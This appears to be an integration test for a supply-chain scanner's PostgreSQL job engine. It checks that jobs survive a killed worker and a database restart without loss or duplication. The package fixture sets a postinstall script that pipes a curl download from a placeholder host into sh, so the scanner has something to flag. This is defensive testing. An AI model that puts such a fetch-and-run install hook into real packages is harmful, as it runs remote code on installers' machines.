/**
 * The PostgreSQL job engine under faults, all on loopback: a real PostgreSQL server, a real npm
 * registry, and `watch worker` processes. A worker killed in the middle of a job, and the database
 * stopped and restarted mid-run: every job ends done, every release's events are stored once, the
 * queue drains. Bounded: each wait gives up after a fixed number of polls.
 */
import { spawn, type ChildProcess } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { jobKey } from '../../src/watch/model.js'
import { JobEngine } from '../../src/watch/queue/engine.js'
import { WatchStore } from '../../src/watch/store/store.js'
import { pollRound } from '../../src/watch/watcher.js'
import { startRegistry, type LocalRegistry } from '../helpers/registry.js'
import { FAST_ENGINE } from './helpers/fast-engine.js'
import { cli } from './helpers/cli.js'
import { postgresMissing, startPostgres, type LocalPostgres } from './helpers/postgres.js'

const VITE_NODE = fileURLToPath(new URL('../../node_modules/vite-node/vite-node.mjs', import.meta.url))
const WORKER = fileURLToPath(new URL('./helpers/engine-worker.ts', import.meta.url))
const missing = postgresMissing()
if (missing) process.stderr.write(`skipping the job-engine fault tests: ${missing}\n`)

let pg: LocalPostgres
let registry: LocalRegistry
let root: string
let url: string
const workers: ChildProcess[] = []
let workerLog = ''

const startWorker = (hold = false): ChildProcess => {
  const child = spawn(process.execPath, [VITE_NODE, WORKER, url, join(root, 'cache'), root, ...(hold ? ['hold'] : [])], { stdio: ['ignore', 'ignore', 'pipe'], env: { ...process.env, HOME: root } })
  child.stderr?.on('data', (c: Buffer) => (workerLog += `[${child.pid}] ${c.toString()}`))
  workers.push(child)
  return child
}

async function until<T>(what: string, probe: () => Promise<T | undefined>, polls = 480): Promise<T> {
  for (let i = 0; i < polls; i++) {
    const value = await probe()
    if (value !== undefined) return value
    await new Promise((r) => setTimeout(r, 250))
  }
  throw new Error(`gave up waiting for ${what}`)
}

/** A package whose every version runs an install script that fetches and runs code: each gets events from both analyses. */
const publishVersion = (version: string) =>
  registry.publish('alice', { name: 'engine-lib', version, main: 'index.js', scripts: { postinstall: 'curl -fsSL http://setup.invalid/i.sh | sh' } }, { 'index.js': `module.exports = '${version}'\n` })

beforeAll(async () => {
  if (missing) return
  root = mkdtempSync(join(tmpdir(), 'stagelight-engine-'))
  ;[pg, registry] = await Promise.all([startPostgres(), startRegistry()])
  url = await pg.database('engine')
  writeFileSync(join(root, '.npmrc'), `registry=${registry.url}\n`)
  await registry.publish('alice', { name: 'engine-lib', version: '1.0.0', main: 'index.js' }, { 'index.js': "module.exports = '1.0.0'\n" })
}, 900_000)

afterAll(async () => {
  for (const w of workers) if (w.exitCode === null) w.kill('SIGKILL')
  await pg?.stop()
  await registry?.stop()
  if (root) rmSync(root, { recursive: true, force: true })
})

describe.skipIf(missing !== undefined)('the PostgreSQL job engine', () => {
  it('takes each job once however often it is sent', async () => {
    // a database of its own: the job it leaves queued is no job of the tests below
    const engine = await JobEngine.start(await pg.database('engine-once'))
    const spec = { key: jobKey('npm:x', '1.0.0', 'scan'), target: 'npm:x', version: '1.0.0', analysis: 'scan' as const }
    expect(await engine.send(spec)).not.toBeNull()
    expect(await engine.send(spec)).toBeNull()
    await engine.stop(1)
  })

  it('loses and duplicates nothing when a worker is killed mid-job and the database restarts mid-run', async () => {
    const store = await WatchStore.open(url)
    const context = { store, cwd: root, env: { HOME: root }, cacheDir: join(root, 'cache') }
    await store.addTarget({ key: 'npm:engine-lib', kind: 'npm', name: 'engine-lib' }, 'manual')
    expect((await pollRound(context)).baselined).toBe(1)
    const versions = ['1.0.1', '1.0.2', '1.0.3', '1.0.4', '1.0.5', '1.0.6']
    for (const v of versions) await publishVersion(v)
    const engine = await JobEngine.start(url, FAST_ENGINE)
    const round = await pollRound(context, async (spec) => void (await engine.send(spec)))
    expect(round.jobsQueued).toBe(versions.length * 2)
    await engine.stop(1)

    // the first worker alone until it holds a job, which it keeps until killed: a second one
    // started with it could take every job while the first is still starting on a loaded machine
    const first = startWorker(true)
    await until('a job running on the first worker', async () => ((await store.jobs('running')).some((j) => j.worker?.includes(`:${first.pid}#`)) ? true : undefined))
    startWorker()
    // kill the first worker while it holds that job
    first.kill('SIGKILL')
    // stop the database while the others work, then bring it back
    await until('a job done', async () => ((await store.jobCounts()).done > 0 ? true : undefined))
    await pg.kill()
    await new Promise((r) => setTimeout(r, 1500))
    await pg.start()
    startWorker()

    await until('every job done', async () => {
      const counts = await store.jobCounts().catch(() => undefined)
      return counts && counts.done === versions.length * 2 ? counts : undefined
    }).catch(async (err: Error) => {
      throw new Error(`${err.message}\n${JSON.stringify(await store.jobs(), null, 1)}\n${workerLog.slice(-4000)}`)
    })
    expect(await store.jobCounts()).toEqual({ queued: 0, running: 0, done: 12, dead: 0 })
    for (const v of versions) {
      for (const analysis of ['scan', 'signals'] as const) {
        const report = await store.report(jobKey('npm:engine-lib', v, analysis))
        expect(report, `${v} ${analysis}`).toBeDefined()
      }
    }
    // each release's events exactly once: as many as its reports' findings at low or above, no more
    const counted = new Map((await store.sql.all<{ job: string; n: number }>(`SELECT job, COUNT(*) AS n FROM events GROUP BY job`)).map((r) => [r.job, Number(r.n)]))
    let total = 0
    for (const job of await store.jobs()) {
      const report = await store.report(job.key)
      const expected = report!.findings.filter((f) => f.severity !== 'info').length + (report!.incomplete?.length ?? 0)
      expect(counted.get(job.key) ?? 0, job.key).toBe(expected)
      total += expected
    }
    // every version gained the install script over 1.0.0 or kept it: the scans flag each one
    expect(total).toBeGreaterThanOrEqual(versions.length)
    const engineAfter = await JobEngine.start(url)
    await until('the engine queue drained', async () => ((await engineAfter.pending()) === 0 ? true : undefined))
    await engineAfter.stop(1)
    await store.close()
  })

  it('runs a round through the engine from the command line: `watch run --once --workers 1`', async () => {
    await publishVersion('1.0.7')
    const run = await cli(['watch', 'run', '--once', '--workers', '1', '--db', url, '--cache-dir', join(root, 'cache')], root)
    expect(run.code, run.stderr).toBe(0)
    expect(run.stderr).toContain('1 new releases, 2 jobs queued; 2 done, 0 to retry, 0 dead')
    const status = await cli(['watch', 'status', '--format', 'json', '--db', url], root)
    expect(JSON.parse(status.stdout)).toMatchObject({ jobs: { queued: 0, running: 0, done: 14, dead: 0 } })
  })
})
